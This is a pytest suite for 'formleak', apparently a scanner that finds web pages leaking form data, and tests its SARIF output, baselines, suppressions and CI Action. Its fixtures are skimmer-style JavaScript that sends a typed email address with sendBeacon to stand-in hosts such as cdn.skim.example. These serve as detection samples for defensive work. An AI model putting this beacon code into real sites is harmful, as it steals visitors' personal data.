"""Issue 10 ("adoption in five minutes"): each trap a new user hit, reproduced and checked.

SARIF locations that resolve, automationDetails and primaryLocationLineHash; baselines that keep a new leak
new (the issue's scenario exactly), stale entries and pruning; several outputs from one scan; JSON `roots`;
`formleak rules` and `--explain`; fix advice; colour switches; suppressions only from comments, in linear
time, and `--report-unused-suppressions error`; path steps that carry data; the demo shop's clean code.
"""
from __future__ import annotations

import json
import os
import sys
import time
from pathlib import Path
from urllib.parse import unquote, urljoin, urlsplit

import pytest
import yaml

from analyzer import engine as engine_mod
from analyzer.cli import main
from analyzer.report import RULES
from analyzer.rules import load_toml
from helpers import LEAK_JS, PAGE_HTML, REPO, fake_scan, make_finding, make_result, write_project

README = REPO / "README.md"


@pytest.fixture(params=["real", "fake"])
def engine(request, monkeypatch):
    if request.param == "fake":
        monkeypatch.setattr("analyzer.engine.scan", fake_scan)
    return request.param


def _site(root: Path) -> Path:
    """web/index.html + web/js/app.js (a leak on line 1)."""
    (root / "js").mkdir(parents=True, exist_ok=True)
    (root / "index.html").write_text(PAGE_HTML.replace('src="app.js"', 'src="js/app.js"'), encoding="utf-8")
    (root / "js" / "app.js").write_text(LEAK_JS, encoding="utf-8")
    return root


def _sarif(args: list[str], out: Path) -> dict:
    assert main(["scan", *args, "--sarif-output", str(out), "--no-progress", "--quiet"]) == 1
    return json.loads(out.read_text(encoding="utf-8"))


def _resolved(run: dict, uri: str) -> Path:
    base = run["originalUriBaseIds"]["%SRCROOT%"]["uri"]
    return Path(unquote(urlsplit(urljoin(base, uri)).path))


# ------------------------------------------------------------------------------------------ SARIF


def test_sarif_uri_is_relative_to_the_current_directory_when_the_root_is_inside_it(tmp_path, monkeypatch, engine):
    _site(tmp_path / "web")
    monkeypatch.chdir(tmp_path)
    run = _sarif(["web"], tmp_path / "r.sarif")["runs"][0]
    assert run["originalUriBaseIds"]["%SRCROOT%"]["uri"] == tmp_path.resolve().as_uri() + "/"
    uris = [r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in run["results"]]
    assert uris == ["web/js/app.js"]
    for r in run["results"]:
        flows = r["codeFlows"][0]["threadFlows"][0]["locations"]
        for loc in [r["locations"][0]] + [x["location"] for x in flows] + r.get("relatedLocations", []):
            assert _resolved(run, loc["physicalLocation"]["artifactLocation"]["uri"]).is_file()


def test_sarif_uri_is_relative_to_the_scan_root_outside_the_current_directory(tmp_path, monkeypatch):
    _site(tmp_path / "web")
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    run = _sarif([str(tmp_path / "web")], tmp_path / "r.sarif")["runs"][0]
    assert run["originalUriBaseIds"]["%SRCROOT%"]["uri"] == (tmp_path / "web").resolve().as_uri() + "/"
    uri = run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    assert uri == "js/app.js" and _resolved(run, uri) == (tmp_path / "web" / "js" / "app.js").resolve()


def test_sarif_uris_of_several_roots_and_a_file_root(tmp_path, monkeypatch, engine):
    _site(tmp_path / "web")
    write_project(tmp_path / "admin", LEAK_JS.replace("'email'", "'email' ").replace("blur", "blur"))
    monkeypatch.chdir(tmp_path)
    run = _sarif(["web", "admin"], tmp_path / "r.sarif")["runs"][0]
    uris = sorted(r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in run["results"])
    assert uris == ["admin/app.js", "web/js/app.js"]
    assert all(_resolved(run, u).is_file() for u in uris)
    run = _sarif(["web/js/app.js"], tmp_path / "f.sarif")["runs"][0]
    uri = run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    assert uri == "web/js/app.js" and _resolved(run, uri).is_file()


def test_sarif_category_and_primary_location_line_hash(tmp_path, monkeypatch, engine):
    _site(tmp_path / "web")
    monkeypatch.chdir(tmp_path)
    doc = _sarif(["web", "--category", "formleak-storefront"], tmp_path / "r.sarif")
    run = doc["runs"][0]
    assert run["automationDetails"] == {"id": "formleak-storefront/"}
    assert _sarif(["web"], tmp_path / "d.sarif")["runs"][0]["automationDetails"] == {"id": "formleak/"}
    r = run["results"][0]
    fp = r["partialFingerprints"]
    assert fp["primaryLocationLineHash"] == fp["formleak/v2"] and len(fp["formleak/v2"]) == 64
    # a rebuild that moves the code keeps both
    (tmp_path / "web" / "js" / "app.js").write_text("/* v2 */\n\n\n" + LEAK_JS, encoding="utf-8")
    moved = _sarif(["web", "--category", "formleak-storefront"], tmp_path / "m.sarif")["runs"][0]["results"][0]
    assert moved["partialFingerprints"] == fp
    assert moved["locations"][0]["physicalLocation"]["region"]["startLine"] == 4


def test_sarif_with_category_validates(tmp_path, monkeypatch):
    jsonschema = pytest.importorskip("jsonschema")
    from helpers import SCHEMA

    if not SCHEMA.is_file():
        pytest.skip("SARIF schema not found")
    _site(tmp_path / "web")
    monkeypatch.chdir(tmp_path)
    doc = _sarif(["web", "--category", "x"], tmp_path / "r.sarif")
    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    errors = list(jsonschema.validators.validator_for(schema)(schema).iter_errors(doc))
    assert not errors, errors[:3]


# ------------------------------------------------------------------------------------------ baselines

TRACKER_REAL = """document.getElementById('email').addEventListener('blur', function (e) {
  navigator.sendBeacon('https://collect.tracker.example/identify', e.target.value);
});
"""
SKIMMER_ABOVE_REAL = """document.getElementById('email').addEventListener('blur', function (e) {
  navigator.sendBeacon('https://cdn.skim.example/c', e.target.value);
  navigator.sendBeacon('https://collect.tracker.example/identify', e.target.value);
});
"""
# the stand-in engine reads one line at a time: the same scenario, one call per line
TRACKER_FAKE = ("document.getElementById('email').addEventListener('blur', "
                "e => navigator.sendBeacon('https://collect.tracker.example/identify', e.target.value));\n")
SKIMMER_ABOVE_FAKE = TRACKER_FAKE.replace("collect.tracker.example/identify", "cdn.skim.example/c") + TRACKER_FAKE


def _json(root: Path, *extra: str) -> tuple[int, dict]:
    out = root.parent / "report.json"
    code = main(["scan", str(root), "--json-output", str(out), "--no-progress", "--quiet", *extra])
    return code, json.loads(out.read_text(encoding="utf-8"))


def test_new_skimmer_beacon_above_a_baselined_tracker_beacon_is_new(tmp_path, engine):
    """The issue's scenario: an approved tracker beacon is baselined; a skimmer's sendBeacon is added above
    it. The skimmer must be reported as new and the tracker must stay baselined."""
    before, after = (TRACKER_REAL, SKIMMER_ABOVE_REAL) if engine == "real" else (TRACKER_FAKE, SKIMMER_ABOVE_FAKE)
    root = write_project(tmp_path / "shop", before)
    baseline = tmp_path / ".formleak-baseline.json"
    code, _ = _json(root, "--write-baseline", str(baseline))
    assert code == 0
    entries = json.loads(baseline.read_text())["fingerprints"]
    assert [e["destination"] for e in entries] == ["host:collect.tracker.example"]

    (root / "app.js").write_text(after, encoding="utf-8")
    code, doc = _json(root, "--baseline", str(baseline))
    assert code == 1
    live = [(f["sink"]["location"]["line"], f["destination"]["url"]) for f in doc["findings"] if not f["suppression"]]
    base = [(f["sink"]["location"]["line"], f["destination"]["url"]) for f in doc["findings"] if f["suppression"]]
    skim_line = 2 if engine == "real" else 1
    assert live == [(skim_line, "https://cdn.skim.example/c")]
    assert base == [(skim_line + 1, "https://collect.tracker.example/identify")]
    assert not [n for n in doc["notifications"] if n["reason"] == "stale-baseline-entry"]


def test_stale_baseline_entries_are_reported_and_pruned(tmp_path, engine, capsys):
    both = TRACKER_FAKE + TRACKER_FAKE.replace("'email'", "'phone'").replace("collect.tracker", "sms.tracker")
    root = write_project(tmp_path / "shop", both)
    baseline = tmp_path / "b.json"
    assert _json(root, "--write-baseline", str(baseline))[0] == 0
    assert len(json.loads(baseline.read_text())["fingerprints"]) == 2
    (root / "app.js").write_text(TRACKER_FAKE, encoding="utf-8")  # the phone leak was fixed
    code, doc = _json(root, "--baseline", str(baseline))
    assert code == 0
    stale = [n for n in doc["notifications"] if n["reason"] == "stale-baseline-entry"]
    assert len(stale) == 1 and stale[0]["level"] == "warning" and stale[0]["path"] == "app.js"
    assert "--prune-baseline" in stale[0]["message"] and "sms.tracker.example" in stale[0]["message"]
    assert doc["summary"]["files_failed"] == 0
    capsys.readouterr()
    code = main(["scan", str(root), "--baseline", str(baseline), "--prune-baseline", "--no-progress",
                 "--json-output", str(tmp_path / "p.json")])
    assert code == 0 and "removed 1 stale entry" in capsys.readouterr().err
    rows = json.loads(baseline.read_text())["fingerprints"]
    assert [r["destination"] for r in rows] == ["host:collect.tracker.example"]
    code, doc = _json(root, "--baseline", str(baseline))
    assert not [n for n in doc["notifications"] if n["reason"] == "stale-baseline-entry"]
    assert [f["suppression"]["kind"] for f in doc["findings"]] == ["external"]


def test_stale_entries_show_in_the_text_report(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr("analyzer.engine.scan", fake_scan)
    root = write_project(tmp_path / "shop", TRACKER_FAKE)
    baseline = tmp_path / "b.json"
    main(["scan", str(root), "--write-baseline", str(baseline), "--quiet"])
    (root / "app.js").write_text("// fixed\n", encoding="utf-8")
    capsys.readouterr()
    assert main(["scan", str(root), "--baseline", str(baseline), "--no-progress"]) == 0
    assert "matches no finding any more" in capsys.readouterr().out


def test_version_1_baseline_is_refused_with_advice(tmp_path, capsys):
    root = write_project(tmp_path / "shop", LEAK_JS)
    old = tmp_path / "old.json"
    old.write_text(json.dumps({"version": 1, "fingerprints": [{"fingerprint": "ab" * 32}]}))
    assert main(["scan", str(root), "--baseline", str(old), "--quiet"]) == 2
    assert "--write-baseline" in capsys.readouterr().err


def test_prune_without_a_baseline_is_a_usage_error(tmp_path, capsys):
    root = write_project(tmp_path / "shop", LEAK_JS)
    assert main(["scan", str(root), "--prune-baseline", "--quiet"]) == 2
    assert "--prune-baseline needs a baseline" in capsys.readouterr().err


# ------------------------------------------------------------------------------------------ outputs


def test_several_outputs_from_one_scan(tmp_path, monkeypatch, capsys):
    calls = []
    real = engine_mod.scan

    def counting(*a, **k):
        calls.append(a)
        return real(*a, **k)

    monkeypatch.setattr("analyzer.engine.scan", counting)
    root = write_project(tmp_path / "shop", LEAK_JS)
    out = tmp_path / "out"
    code = main(["scan", str(root), "--sarif-output", str(out / "r.sarif"), "--json-output", str(out / "r.json"),
                 "--html-output", str(out / "r.html"), "--no-progress"])
    assert code == 1 and len(calls) == 1
    cap = capsys.readouterr()
    assert "FL002" in cap.out and "app.js:1:" in cap.out  # the text report still goes to stdout
    sarif = json.loads((out / "r.sarif").read_text())
    js = json.loads((out / "r.json").read_text())
    html = (out / "r.html").read_text()
    fp = js["findings"][0]["fingerprint"]
    assert sarif["runs"][0]["results"][0]["partialFingerprints"]["formleak/v2"] == fp
    assert fp[:16] in html
    assert all(str(out / n) in cap.err for n in ("r.sarif", "r.json", "r.html"))
    # --format/--output as before, next to the extra files
    code = main(["scan", str(root), "--format", "json", "--output", str(out / "p.json"),
                 "--sarif-output", str(out / "p.sarif"), "--no-progress", "--quiet"])
    assert code == 1 and (out / "p.json").is_file() and (out / "p.sarif").is_file()
    assert json.loads((out / "p.json").read_text())["findings"][0]["fingerprint"] == fp


def test_format_given_twice_is_an_error_not_last_wins(tmp_path, capsys):
    assert main(["scan", str(tmp_path), "--format", "json", "--format", "sarif"]) == 2
    err = capsys.readouterr().err
    assert "--format given twice" in err and "--sarif-output" in err


def test_json_roots_are_the_scanned_paths(tmp_path, monkeypatch):
    _site(tmp_path / "web")
    write_project(tmp_path / "admin", LEAK_JS)
    monkeypatch.chdir(tmp_path)
    main(["scan", "web", "admin", "--json-output", "r.json", "--quiet"])
    assert json.loads((tmp_path / "r.json").read_text())["roots"] == ["web", "admin"]
    from analyzer.engine import scan

    assert scan([Path("web")]).roots == ["web"]


def test_gitlab_recipe_in_readme_scans_once():
    text = README.read_text(encoding="utf-8")
    start = text.index("GitLab")
    block = text[start:text.index("```", text.index("```", start) + 3)]
    scans = [line for line in block.splitlines() if "formleak scan" in line]
    assert len(scans) == 1 and "--sarif-output" in scans[0] and "--json-output" in scans[0]


# ------------------------------------------------------------------------------------------ rules, explain


def test_rules_lists_every_rule(capsys):
    assert main(["rules"]) == 0
    out = capsys.readouterr().out
    for rid, meta in RULES.items():
        assert rid in out and meta.name in out and meta.short in out


def test_explain_prints_the_sarif_help_text(capsys):
    from analyzer.report.sarif import sarif_document

    help_text = {r["id"]: r["help"]["text"]
                 for r in sarif_document(make_result([]))["runs"][0]["tool"]["driver"]["rules"]}
    for rid in RULES:
        assert main(["scan", "--explain", rid.lower()]) == 0
        out = capsys.readouterr().out
        flat = " ".join(out.split())
        assert out.startswith(rid) and " ".join(help_text[rid].split()) in flat
        assert " ".join(RULES[rid].advice.split()) in flat
        assert max(len(line) for line in out.splitlines()) <= 100 or RULES[rid].example in out
    assert main(["scan", "--explain", "FL999"]) == 2
    assert "formleak rules" in capsys.readouterr().err


@pytest.mark.parametrize("rule", sorted(load_toml("findings")["rule"], key=lambda r: r["id"]), ids=lambda r: r["id"])
def test_rule_example_produces_its_rule(tmp_path, rule):
    (tmp_path / "example.js").write_text(rule["example"] + "\n", encoding="utf-8")
    from analyzer.engine import scan

    assert [f.rule_id for f in scan([tmp_path]).findings] == [rule["id"]]


def test_scan_without_paths_is_a_usage_error(capsys):
    assert main(["scan"]) == 2
    assert "at least one PATH" in capsys.readouterr().err


def test_text_report_gives_fix_advice(monkeypatch, tmp_path, capsys):
    monkeypatch.setattr("analyzer.engine.scan", lambda roots, **k: make_result(
        [make_finding(), make_finding("js/zip.js", 3, rule="FL004", severity="low", categories=("postal_code",))],
        root=str(roots[0])))
    main(["scan", str(tmp_path), "--no-progress"])
    out = capsys.readouterr().out
    assert f"fix          {RULES['FL002'].advice}  (formleak scan --explain FL002)" in out
    assert RULES["FL004"].advice in out


# ------------------------------------------------------------------------------------------ colour


class _Tty:
    def __init__(self, real, tty: bool):
        self.real, self.tty = real, tty

    def isatty(self):
        return self.tty

    def __getattr__(self, name):
        return getattr(self.real, name)


@pytest.mark.parametrize("tty,env,flag,coloured", [
    (False, {}, [], False),
    (True, {}, [], True),
    (True, {"NO_COLOR": "1"}, [], False),
    (False, {"FORCE_COLOR": "1"}, [], True),
    (False, {"FORCE_COLOR": "0"}, [], False),
    (True, {"NO_COLOR": "1", "FORCE_COLOR": "1"}, [], False),
    (False, {"NO_COLOR": "1"}, ["--color"], True),
    (True, {"FORCE_COLOR": "1"}, ["--no-color"], False),
])
def test_colour_switches(monkeypatch, tmp_path, capsys, tty, env, flag, coloured):
    monkeypatch.setattr("analyzer.engine.scan", lambda roots, **k: make_result([make_finding()], root=str(roots[0])))
    monkeypatch.setattr(sys, "stdout", _Tty(sys.stdout, tty))
    for k in ("NO_COLOR", "FORCE_COLOR"):
        monkeypatch.delenv(k, raising=False)
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    main(["scan", str(tmp_path), "--no-progress", *flag])
    assert ("\x1b[" in capsys.readouterr().out) is coloured


def test_color_flags_are_exclusive(tmp_path, capsys):
    assert main(["scan", str(tmp_path), "--color", "--no-color"]) == 2


# ------------------------------------------------------------------------------------------ suppressions


def test_directive_inside_a_string_literal_does_not_suppress(tmp_path, engine):
    js = ("var note = '// formleak-disable-next-line FL002 -- in a string, not a comment';\n" + LEAK_JS
          + "var t = `/* formleak-disable-line -- template */`; " + LEAK_JS.replace("'email'", "'email' "))
    if engine == "fake":  # one finding per line for the stand-in engine
        js = ("var note = '// formleak-disable-next-line FL002 -- in a string, not a comment';\n" + LEAK_JS)
    root = write_project(tmp_path / "shop", js)
    code, doc = _json(root)
    assert code == 1 and all(f["suppression"] is None for f in doc["findings"]) and doc["findings"]
    # the same directive as a comment does suppress
    (root / "app.js").write_text("// formleak-disable-next-line FL002 -- consented\n" + LEAK_JS, encoding="utf-8")
    code, doc = _json(root)
    assert code == 0 and [f["suppression"]["kind"] for f in doc["findings"]] == ["inSource"]


def test_directives_read_from_comment_nodes_only():
    from analyzer.suppress import parse_directives

    src = ("var a = \"// formleak-disable-line -- no\";\n"
           "var r = /\\/\\/ formleak-disable-line -- no/;\n"
           "var t = `${x} /* formleak-disable-line -- no */`;\n"
           "f(); // formleak-disable-line -- yes\n"
           "/*\n * formleak-disable-next-line FL002 -- block\n */\n"
           "g();\n")
    ds, problems = parse_directives("a.js", src)
    assert problems == []
    assert [(d.line, d.kind, d.target_line, d.reason) for d in ds] == [(4, "line", 4, "yes"),
                                                                      (5, "next-line", 8, "block")]
    page = ('<p title="<!-- formleak-disable-next-line -- no -->">x</p>\n'
            "<!-- formleak-disable-next-line FL002 -- html -->\n"
            "<script>\nvar s = '// formleak-disable-line -- no';\n"
            "fetch(1); // formleak-disable-line FL001 -- js in a page\n</script>\n")
    ds, problems = parse_directives("index.html", page)
    assert problems == []
    assert [(d.line, d.kind, d.rules, d.reason) for d in ds] == [(2, "next-line", ("FL002",), "html"),
                                                                 (5, "line", ("FL001",), "js in a page")]


def test_a_40000_character_comment_line_takes_milliseconds():
    from analyzer.suppress import parse_directives

    parse_directives("warm.js", "// formleak-disable-line -- warm up the parser\n")
    for text, path in (("/" * 40000 + "formleak-disable-zzz\n", "a.js"),
                       ("//" + " " * 40000 + "formleak-disable-line" + "x" * 40000 + "\n", "b.js"),
                       ("<!--" + "/" * 40000 + "formleak-disable-zzz -->\n", "c.html"),
                       ("/*" + "*" * 40000 + "formleak-disable-" * 2000 + "*/\n", "d.js")):
        t0 = time.perf_counter()
        directives, problems = parse_directives(path, text)
        elapsed = time.perf_counter() - t0
        assert elapsed < 0.05, f"{path}: {elapsed:.3f} s"
        assert directives == [] and len(problems) == 1 and problems[0].reason == "invalid-suppression"


def test_report_unused_suppressions_error_fails_the_run(tmp_path, engine):
    js = "// formleak-disable-next-line FL002 -- nothing here any more\nvar x = 1;\n"
    root = write_project(tmp_path / "shop", js)
    code, doc = _json(root)
    assert code == 0 and [n["level"] for n in doc["notifications"] if n["reason"] == "unused-suppression"] == ["warning"]
    code, doc = _json(root, "--report-unused-suppressions", "error")
    assert code == 1 and [n["level"] for n in doc["notifications"] if n["reason"] == "unused-suppression"] == ["error"]
    assert doc["summary"]["files_failed"] == 0 and doc["summary"]["findings"] == 0
    code, doc = _json(root, "--report-unused-suppressions", "off")
    assert code == 0 and not [n for n in doc["notifications"] if n["reason"] == "unused-suppression"]
    assert _json(root, "--report-unused-suppressions", "error", "--exit-zero")[0] == 0


# ------------------------------------------------------------------------------------------ path steps


def test_a_sanitiser_check_is_not_a_path_step():
    from analyzer.engine import scan

    r = scan([REPO / "fixtures" / "demo-shop"])
    widget = next(f for f in r.findings if f.sink.path == "js/vendor-widget.js")
    snippets = [s.snippet for s in widget.steps]
    assert not [s for s in snippets if "buf.length" in s], snippets
    assert [s.message for s in widget.steps][:2] == ["reads any field of the page (value)", "passed through `join(…)`"]
    assert widget.steps[-1].message == "sent by img.src"


def test_a_closure_variable_checked_before_use_is_one_step(tmp_path):
    from analyzer.engine import scan

    (tmp_path / "a.js").write_text(
        "var saved = '';\n"
        "document.getElementById('email').addEventListener('input', function (e) { saved = e.target.value; });\n"
        "setInterval(function () {\n"
        "  if (!saved) return;\n"
        "  if (saved.length < 3) return;\n"
        "  navigator.sendBeacon('/keep', saved);\n"
        "}, 1000);\n", encoding="utf-8")
    [f] = scan([tmp_path]).findings
    lines = [s.location.line for s in f.steps]
    assert 4 not in lines and 5 not in lines and lines[-1] == 6, [(s.location.line, s.message) for s in f.steps]


# ------------------------------------------------------------------------------------------ the Action


def test_action_inputs_summary_log_and_permissions():
    action = yaml.safe_load((REPO / "action.yml").read_text())
    inputs = action["inputs"]
    assert inputs["upload"]["default"] == "true"
    assert "category" in inputs and "args" in inputs
    steps = action["runs"]["steps"]
    upload = next(s for s in steps if s.get("uses", "").startswith("github/codeql-action/upload-sarif@"))
    assert "inputs.upload" in upload["if"] and "always()" in upload["if"]
    assert upload["with"]["category"] == "${{ inputs.category }}"
    scripts = "\n".join(s.get("run", "") for s in steps)
    assert "GITHUB_STEP_SUMMARY" in scripts
    assert "--sarif-output" in scripts and "--category" in scripts and "FORMLEAK_ARGS" in scripts
    scan = next(s for s in steps if "formleak scan" in s.get("run", ""))
    assert scan["env"]["FORMLEAK_ARGS"] == "${{ inputs.args }}"
    readme = README.read_text(encoding="utf-8")
    assert "actions: read" in readme and "security-events: write" in readme and "contents: read" in readme


def test_action_summary_script_renders_a_findings_table(tmp_path, monkeypatch):
    """The job summary is written by `python -m analyzer.report.summary REPORT.json`."""
    from analyzer.report.json_out import render_json

    report = tmp_path / "r.json"
    report.write_text(render_json(make_result([make_finding(), make_finding("js/x.js", 3, rule="FL001",
                                                                            severity="critical",
                                                                            categories=("card_number",))])))
    from analyzer.report.summary import markdown_summary

    md = markdown_summary(json.loads(report.read_text()))
    assert "| severity |" in md.lower() and "js/x.js:3" in md and "FL001" in md and "2 findings" in md
    assert md.index("critical") < md.index("high")
    empty = markdown_summary(json.loads(render_json(make_result([]))))
    assert "No findings" in empty


def _action_scan_script() -> str:
    action = yaml.safe_load((REPO / "action.yml").read_text())
    return next(s for s in action["runs"]["steps"] if s.get("id") == "scan")["run"]


@pytest.mark.parametrize("args,code", [("", "1"), ("--fail-on critical --origin 'https://shop.example'", "0")])
def test_action_scan_step_runs_once_logs_findings_and_writes_the_summary(tmp_path, args, code):
    """Run the Action's scan script in bash with `formleak`/`python` shims for this checkout."""
    import shutil
    import subprocess

    if not shutil.which("bash"):
        pytest.skip("bash not available")
    bindir = tmp_path / "bin"
    bindir.mkdir()
    py = sys.executable
    (bindir / "python").write_text(f'#!/bin/sh\nPYTHONPATH="{REPO}" exec "{py}" "$@"\n')
    (bindir / "formleak").write_text(f'#!/bin/sh\necho run >> "{tmp_path}/calls"\n'
                                     f'PYTHONPATH="{REPO}" exec "{py}" -m analyzer "$@"\n')
    for f in bindir.iterdir():
        f.chmod(0o755)
    work = tmp_path / "ws"
    write_project(work / "web", LEAK_JS)
    env = {"PATH": f"{bindir}:{os.environ.get('PATH', '')}", "HOME": str(tmp_path), "RUNNER_TEMP": str(tmp_path),
           "GITHUB_OUTPUT": str(tmp_path / "out"), "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
           "FORMLEAK_PATH": "web", "FORMLEAK_FAIL_ON": "", "FORMLEAK_BASELINE": "", "FORMLEAK_SARIF": "formleak.sarif",
           "FORMLEAK_CATEGORY": "formleak-web", "FORMLEAK_ARGS": args}
    proc = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", _action_scan_script()],
                          cwd=work, env=env, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    assert (tmp_path / "calls").read_text() == "run\n"  # one scan
    assert f"exit-code={code}" in (tmp_path / "out").read_text()
    assert "FL002" in proc.stdout and "web/app.js:1:" not in proc.stdout and "app.js:1:" in proc.stdout
    summary = (tmp_path / "summary.md").read_text()
    assert "## formleak" in summary and "| high | FL002 |" in summary
    run = json.loads((work / "formleak.sarif").read_text())["runs"][0]
    assert run["automationDetails"]["id"] == "formleak-web/"
    assert run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "web/app.js"
    if args:
        assert run["properties"]["origin"] == "https://shop.example"
